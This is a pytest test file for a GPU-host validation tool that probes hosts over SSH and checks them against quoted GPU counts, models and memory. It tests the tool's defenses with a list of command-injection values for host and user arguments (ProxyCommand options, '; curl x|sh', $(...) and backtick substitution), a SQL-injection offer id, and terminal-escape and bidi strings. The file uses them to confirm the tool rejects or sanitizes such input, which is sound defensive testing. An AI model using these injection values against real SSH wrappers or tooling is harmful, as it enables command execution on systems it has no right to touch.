"""validate-host end to end against a real OpenSSH server on 127.0.0.1 serving a fake GPU host."""
import json
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from flows.probe import ssh_runner
from flows.probe.validate import OfferNotFound, validate_host
from provider_eval.paths import PROJECT_ROOT
from tests import fake_host
from tests.conftest import left_as_found, query, run_refresh
from tests.fault_trials import refresh_env as prefect_api  # noqa: F401  (fixture: one Prefect server, module-wide)
from tests.sshd import known_hosts_line, make_keys, running_sshd

EIGHT_GPU_OFFER = "amd-devcloud-mi300x-8"  # MI300X × 8 in data/samples/quotes/public_price_points.csv
MI300X_OFFER = "seed-000-mi300x-server"    # MI300X × 1, ranked in the sample data
MI325X_OFFER = "seed-000-mi325x-server"    # MI325X × 1, ranked in the sample data


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    return make_keys(tmp_path_factory.mktemp("keys"))


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory, sample_warehouse) -> Path:
    """A private copy of the refreshed sample warehouse; validation evidence lands beside it."""
    path = tmp_path_factory.mktemp("validated") / "provider_eval.duckdb"
    shutil.copy(sample_warehouse, path)
    return path


def host_with(tmp_path: Path, keys, env: dict):
    """A running sshd whose sessions see the fake host's PATH and sysroot."""
    return running_sshd(tmp_path / "sshd", keys, env)


def validate(server, warehouse: Path, offer: str, **kwargs) -> dict:
    return validate_host("127.0.0.1", offer, server.user, server.port, server.identity_file, server.known_hosts,
                         warehouse, bench=False, **kwargs)


def measured(record: dict, check: str) -> str | None:
    """What the SQL check `check` measured, as the record keeps it."""
    return next(c["measured"] for c in record["checks"] if c["check"] == check)


def cli(api_env: dict, *args: str) -> subprocess.CompletedProcess:
    """`provider-eval validate-host` as a user runs it, against the module's Prefect server.

    Without PREFECT_API_URL every run would start its own ephemeral Prefect server (~20 s on 2 busy
    cores); the flow, its CLI and the exit codes are the same either way."""
    env = dict(api_env, PYTHONPATH=str(PROJECT_ROOT))
    return subprocess.run([sys.executable, "-m", "provider_eval", "validate-host", *args],
                          capture_output=True, text=True, env=env, timeout=120)


def cli_args(server, offer: str, warehouse: Path, *extra: str) -> list[str]:
    return ["127.0.0.1", "--offer", offer, "--user", server.user, "--port", str(server.port),
            "--identity-file", str(server.identity_file), "--known-hosts", str(server.known_hosts),
            "--no-bench", "--timeout", "60", "--warehouse", str(warehouse), *extra]


def test_pass_on_a_host_matching_the_quote(prefect_api, tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host")) as server:
        done = cli(prefect_api, *cli_args(server, EIGHT_GPU_OFFER, warehouse))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "PASS" in done.stdout and "gpu_count" in done.stdout
    evidence = next(line for line in done.stderr.splitlines() if line.startswith("evidence:")).split()[1]
    record = json.loads(Path(evidence).read_text())
    assert record["verdict"] == "pass" and measured(record, "gpu_count") == "8"
    assert record["host_key_fingerprint"].startswith("SHA256:")
    assert (Path(evidence).parent / "probes" / f"{record['probe_sha256']}.json").exists()


def test_amd_smi_26_shape_over_ssh(tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host", v26=True, duplicated=True)) as server:
        record = validate(server, warehouse, EIGHT_GPU_OFFER)
    assert record["verdict"] == "pass", record["reasons"]


def test_fail_when_the_host_has_fewer_gpus_than_quoted(tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host", count=6)) as server:
        record = validate(server, warehouse, EIGHT_GPU_OFFER)
    assert record["verdict"] == "fail"
    assert "FAIL gpu_count: quote says 8 GPU(s), host shows 6" in record["reasons"]


def test_fail_on_the_wrong_model_exit_code_1(prefect_api, tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host", device_id="0x74a5")) as server:
        done = cli(prefect_api, *cli_args(server, EIGHT_GPU_OFFER, warehouse, "--format", "json"))
    assert done.returncode == 1, done.stderr
    record = json.loads(done.stdout)
    assert record["verdict"] == "fail"
    assert any(r.startswith("FAIL gpu_model: quote says MI300X, host has MI325X") for r in record["reasons"])


def test_unknown_host_key_is_refused(prefect_api, tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host")) as server:
        server.known_hosts.write_text(known_hosts_line(1, Path(str(keys.host_key) + ".pub")))  # another host only
        with pytest.raises(ssh_runner.SSHRefused, match="host key not accepted"):
            validate(server, warehouse, EIGHT_GPU_OFFER)
        done = cli(prefect_api, *cli_args(server, EIGHT_GPU_OFFER, warehouse))
    assert done.returncode == 5 and "never accepted" in done.stderr  # no verdict: refused, not a usage error


def test_changed_host_key_is_refused(tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host")) as server:
        server.known_hosts.write_text(known_hosts_line(server.port, Path(str(keys.other_host_key) + ".pub")))
        with pytest.raises(ssh_runner.SSHRefused, match="host key not accepted"):
            validate(server, warehouse, EIGHT_GPU_OFFER)


@pytest.mark.parametrize("host, user", [
    ("-oProxyCommand=touch /tmp/pe-pwned", "root"),
    ("127.0.0.1; curl x|sh", "root"),
    ("$(touch /tmp/pe-pwned)", "root"),
    ("`touch /tmp/pe-pwned`", "root"),
    ("127.0.0.1\nProxyCommand touch /tmp/pe-pwned", "root"),
    ("127.0.0.1", "-oProxyCommand=touch /tmp/pe-pwned"),
    ("127.0.0.1", "root; touch /tmp/pe-pwned"),
    ("127.0.0.1", "$(id)"),
])
def test_injection_payloads_are_rejected_before_anything_is_built(tmp_path, warehouse, host, user):
    key = tmp_path / "key"
    key.write_text("unused")
    with pytest.raises(ssh_runner.UnsafeTarget):
        validate_host(host, EIGHT_GPU_OFFER, user, 22, key, key, warehouse)
    assert not Path("/tmp/pe-pwned").exists()


def test_injection_through_the_cli_exits_2_and_runs_nothing(prefect_api, tmp_path, warehouse):
    key = tmp_path / "key"
    key.write_text("unused")
    done = cli(prefect_api, "--offer", EIGHT_GPU_OFFER, "--identity-file", str(key), "--known-hosts", str(key),
               "--warehouse", str(warehouse), "--", "-oProxyCommand=touch /tmp/pe-pwned")
    assert done.returncode == 2 and "not a hostname or IP address" in done.stderr
    assert not Path("/tmp/pe-pwned").exists()


def test_quote_data_never_reaches_the_remote_command(warehouse, keys):
    # Offer ids go to DuckDB as parameters; the remote command holds only integers we produced.
    with pytest.raises(OfferNotFound):
        validate_host("127.0.0.1", "x'; drop table offers; --", "root", 22, keys.user_key, keys.user_key, warehouse)
    assert query(warehouse, "select count(*) from offers")[0][0] > 0
    assert ssh_runner.remote_command(300, True) == "timeout -k 10 300 python3 -"
    assert ssh_runner.remote_command(300, False) == "timeout -k 10 300 python3 - --no-bench"
    assert ssh_runner.remote_command(300, True, deep=True) == "timeout -k 10 300 python3 - --deep"


def test_a_hanging_probe_is_stopped_by_the_remote_deadline(tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host", hang=True)) as server:
        started = time.monotonic()
        record = validate(server, warehouse, EIGHT_GPU_OFFER, timeout_s=3)
        elapsed = time.monotonic() - started
    assert elapsed < 3 + ssh_runner.CLIENT_GRACE_S + 3
    assert record["verdict"] == "inconclusive"
    assert any("exited with status 124" in r for r in record["reasons"]), record["reasons"]


def test_a_command_ignoring_term_is_cut_off_by_the_client_deadline(tmp_path, keys):
    stubborn = b"import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(60)\n"
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host")) as server:
        target = ssh_runner.validate_target("127.0.0.1", server.port, server.user, server.identity_file, server.known_hosts)
        started = time.monotonic()
        result = ssh_runner.run_probe(target, command_timeout_s=1, script=stubborn)
        elapsed = time.monotonic() - started
    assert result.timed_out and elapsed < 1 + ssh_runner.CLIENT_GRACE_S + 3


def test_ten_mib_of_output_is_capped(tmp_path, keys):
    flood = b"import sys\nsys.stdout.write('x' * (10 * 1024 * 1024))\n"
    with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host")) as server:
        target = ssh_runner.validate_target("127.0.0.1", server.port, server.user, server.identity_file, server.known_hosts)
        result = ssh_runner.run_probe(target, command_timeout_s=30, script=flood)
    assert result.truncated and len(result.stdout) == ssh_runner.MAX_OUTPUT_BYTES


def test_a_host_that_never_sends_a_banner_times_out(tmp_path, keys):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    accepted = []
    threading.Thread(target=lambda: accepted.append(listener.accept()), daemon=True).start()
    known = tmp_path / "known_hosts"
    known.write_text(known_hosts_line(listener.getsockname()[1], Path(str(keys.host_key) + ".pub")))
    target = ssh_runner.validate_target("127.0.0.1", listener.getsockname()[1], "root", keys.user_key, known)
    started = time.monotonic()
    with pytest.raises(ssh_runner.SSHRefused, match="no SSH handshake within"):
        ssh_runner.run_probe(target, connect_timeout_s=1.5)
    assert time.monotonic() - started < 6
    listener.close()


def test_flow_records_validations_and_the_refresh_reranks(tmp_path, keys, warehouse):
    with left_as_found(warehouse.parent):  # its damaged evidence and refreshes stay out of the module's other tests
        from flows.validate_host import validate_host as validate_flow

        with host_with(tmp_path, keys, fake_host.mi300x_host(tmp_path / "host", count=1)) as server:
            passed = validate(server, warehouse, MI300X_OFFER)
            state = validate_flow(host="127.0.0.1", offer_id=MI325X_OFFER, user=server.user, port=server.port,
                                  identity_file=str(server.identity_file), known_hosts=str(server.known_hosts),
                                  warehouse_path=str(warehouse), bench=False, return_state=True)
        failed = state.result()
        assert passed["verdict"] == "pass" and failed["verdict"] == "fail"
        # Damaged evidence files are quarantined with their reason, never fatal to this or any later refresh.
        folder = Path(failed["evidence_path"]).parent
        (folder / "val-damaged.json").write_text("{not json")
        wrong = {**failed, "validation_id": "val-wrong-types", "validated_at": "yesterday", "measured": [1, 2],
                 "quoted_gpu_count": "eight", "port": 1e400}
        (folder / "val-wrong-types.json").write_text(json.dumps(wrong))
        assert run_refresh(warehouse).is_completed()
        assert run_refresh(warehouse).is_completed()
        # Evidence is an input like any other (format probe-json): quarantine names the file, the manifest counts it.
        bad = dict(query(warehouse, "select file, detail from quarantine where reason_code = 'EVIDENCE_INVALID' "
                                    "and source_name = 'hardware-validations'"))
        assert "not readable JSON" in bad["val-damaged.json"]
        assert {"validated_at", "quoted_gpu_count", "port"} <= {p.split(":")[0] for p in bad["val-wrong-types.json"].split("; ")}
        manifest = dict(query(warehouse, "select original_path, rows_in::varchar || '/' || rows_accepted || '/' || rows_quarantined "
                                         "from ingest_manifest where format = 'probe-json'"))
        assert manifest[str(folder / "val-damaged.json")] == "1/0/1"
        assert manifest[failed["evidence_path"]] == "1/1/0"
        # What validate-host prints (the SQL models on the one record) is what the warehouse says after the refresh.
        from provider_eval import validation_sql
        both = validation_sql.decide_many([Path(done["evidence_path"]) for done in (passed, failed)])  # one build
        for done, printed in zip((passed, failed), both):
            assert query(warehouse, "select verdict, reasons, recorded_verdict from hardware_validations where validation_id = ?",
                         [done["validation_id"]]) == [(printed.verdict, printed.reasons, done["verdict"])]
            assert query(warehouse, "select count(*) from validation_checks where validation_id = ?",
                         [done["validation_id"]])[0][0] == len(printed.checks)
        rows = query(warehouse, "select validation_id, verdict, is_latest_for_offer from hardware_validations "
                                "where offer_id = ? order by validated_at", [MI325X_OFFER])
        assert (failed["validation_id"], "fail", True) in rows
        excluded = query(warehouse, "select distinct exclusion_reasons from workload_costs where offer_id = ?", [MI325X_OFFER])
        assert excluded and all("VALIDATION_FAILED" in r[0] for r in excluded)
        assert query(warehouse, "select count(*) from rankings where offer_id = ?", [MI325X_OFFER])[0][0] == 0
        ranked = query(warehouse, "select distinct validation_verdict, validation_id from rankings where offer_id = ?",
                       [MI300X_OFFER])
        assert ranked == [("pass", passed["validation_id"])]


def test_a_hostile_host_over_ssh_is_inconclusive_and_printed_clean(prefect_api, tmp_path, keys, warehouse):
    # The host's tools answer with terminal escapes, a bidi override and a NaN memory size; the
    # real probe passes them through, and the CLI must neither print them nor let NaN pass.
    record = fake_host.static_record(0, fake_host.MI300X_BDFS[0], market="MI300X\x1b]0;owned\x07\u202eX",
                                     gfx="gfx942\x1b[2J\x1b[H",
                                     vram={"type": "HBM", "vendor": "N/A", "size": {"value": float("nan"), "unit": "MB"}})
    env = fake_host.build_host(tmp_path / "host", fake_host.amd_smi_outputs([record]),
                               rocm_version="6.2.3\x1b[31m-116")
    with host_with(tmp_path, keys, env) as server:
        done = cli(prefect_api, *cli_args(server, MI300X_OFFER, warehouse))
    assert done.returncode == 3, done.stdout + done.stderr
    assert "INCONCLUSIVE" in done.stdout
    for text in (done.stdout, done.stderr):
        assert "\x1b" not in text and "\u202e" not in text and "\x07" not in text
    evidence = next(line for line in done.stderr.splitlines() if line.startswith("evidence:")).split()[1]
    saved = json.loads(Path(evidence).read_text())  # strict JSON: no NaN was stored
    assert saved["verdict"] == "inconclusive" and measured(saved, "rocm") == "6.2.3-116"
    # The probe itself reads a NaN size as "not reported"; it never becomes a size that passes.
    assert ("vram", "inconclusive") in {(c["check"], c["status"]) for c in saved["checks"]}, saved["reasons"]
    assert measured(saved, "vram") is None


# --- NVIDIA hosts over SSH (stand-in nvidia-smi serving the captured H100 SXM x8 outputs) -------

NVIDIA_OFFER = "test-nvidia-h100-sxm-8"


@pytest.fixture(scope="module")
def nvidia_warehouse(tmp_path_factory, sample_warehouse) -> Path:
    """The sample warehouse plus one H100 SXM x 8 offer (the sample quotes list AMD offers only)."""
    import duckdb

    path = tmp_path_factory.mktemp("validated-nvidia") / "provider_eval.duckdb"
    shutil.copy(sample_warehouse, path)
    with duckdb.connect(str(path)) as con:
        con.execute("insert into marts.offers by name select ? as offer_id, 'test-provider' as provider, "
                    "'H100 SXM' as gpu_model, 8 as gpus_per_node", [NVIDIA_OFFER])
    return path


def test_nvidia_host_matching_its_quote_passes_over_ssh(prefect_api, tmp_path, keys, nvidia_warehouse):
    with host_with(tmp_path, keys, fake_host.nvidia_host(tmp_path / "host")) as server:
        done = cli(prefect_api, *cli_args(server, NVIDIA_OFFER, nvidia_warehouse, "--format", "json"))
    assert done.returncode == 0, done.stdout + done.stderr
    record = json.loads(done.stdout)
    assert record["verdict"] == "pass", record["reasons"]
    assert "PASS gpu_model: every GPU is a H100 SXM (by the nvidia-smi name, read by flows/ingest/names.py)" in record["reasons"]
    assert "PASS vram: at least 85520809984 bytes per GPU (catalog 80 GB, tolerance 3 %)" in record["reasons"]
    # The ROCm-side checks say they do not apply; none of them fails or blocks the verdict.
    notes = {c["check"]: c for c in record["checks"] if c["message"].startswith("not applicable")}
    assert set(notes) == {"rocm", "links", "software_stack"} and {c["status"] for c in notes.values()} == {"note"}
    assert measured(record, "nvidia_stack").startswith("driver 565.57.01")


def test_nvidia_host_quoted_as_mi300x_names_the_gpu_and_its_memory(prefect_api, tmp_path, keys, warehouse):
    with host_with(tmp_path, keys, fake_host.nvidia_host(tmp_path / "host")) as server:
        done = cli(prefect_api, *cli_args(server, EIGHT_GPU_OFFER, warehouse, "--format", "json"))
    assert done.returncode == 1, done.stderr
    record = json.loads(done.stdout)
    assert "FAIL gpu_model: quote says MI300X, host has H100 SXM" in record["reasons"]
    assert any(r.startswith("FAIL vram: smallest GPU has 85520809984 bytes; a MI300X has 192 GB") for r in record["reasons"])
